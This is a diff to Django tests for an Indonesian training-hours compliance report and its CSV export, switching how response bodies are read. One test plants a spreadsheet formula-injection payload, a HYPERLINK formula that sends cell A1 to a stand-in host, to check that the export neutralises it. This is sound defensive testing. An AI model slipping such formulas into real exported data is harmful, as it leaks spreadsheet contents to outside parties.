@@ -60,7 +60,8 @@ def test_kepatuhan_jp_dengan_saran_sesi_dan_csv(client, org):
     html = client.get("/pelatihan/jp/", {"tahun": 2026}).content.decode()
     assert "Siti Rahmawati" in html and "Rizki Firmansyah" not in html
     assert "Pelatihan 24 JP" in html
-    csv = client.get("/pelatihan/jp/", {"tahun": 2026, "format": "csv"}).content.decode("utf-8-sig")
+    resp = client.get("/pelatihan/jp/", {"tahun": 2026, "format": "csv"})
+    csv = resp.getvalue().decode("utf-8-sig")
     assert f"{org.siti.nip},Siti Rahmawati,Dinas Kesehatan,PNS,12,20,8,tidak" in csv
     client.force_login(org.siti.user)  # an employee sees their own row, but no export
     assert client.get("/pelatihan/jp/", {"format": "csv"}).status_code == 404
@@ -115,7 +116,7 @@ def test_csv_kepatuhan_jp_menetralkan_rumus(client, org):
     rumus = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
     type(org.siti).objects.filter(pk=org.siti.pk).update(nama=rumus)
     client.force_login(org.operator_diskes)
-    teks = client.get("/pelatihan/jp/", {"tahun": 2026, "format": "csv"}).content.decode(
+    teks = client.get("/pelatihan/jp/", {"tahun": 2026, "format": "csv"}).getvalue().decode(
         "utf-8-sig"
     )
     sel = [c for r in csv.reader(io.StringIO(teks)) for c in r if "HYPERLINK" in c]
